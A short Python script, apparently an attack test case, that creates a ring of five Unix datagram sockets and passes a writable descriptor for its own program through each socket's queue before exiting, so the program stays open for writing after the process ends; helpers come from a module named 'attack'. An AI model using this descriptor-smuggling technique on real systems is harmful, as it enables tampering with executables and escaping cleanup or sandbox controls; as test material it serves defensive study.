# ends: again
# Leaves its program open for writing in a ring of sockets, each in the queue of the one before.
import os, socket
from attack import replace_program, send_descriptors
ring = [socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) for _ in range(5)]
for number, member in enumerate(ring):
    member.bind(f"member{number}")
program = replace_program()
for number, member in enumerate(ring):
    send_descriptors(member, [member.fileno(), program], f"member{(number + 1) % 5}")
print("left", flush=True)
os._exit(0)
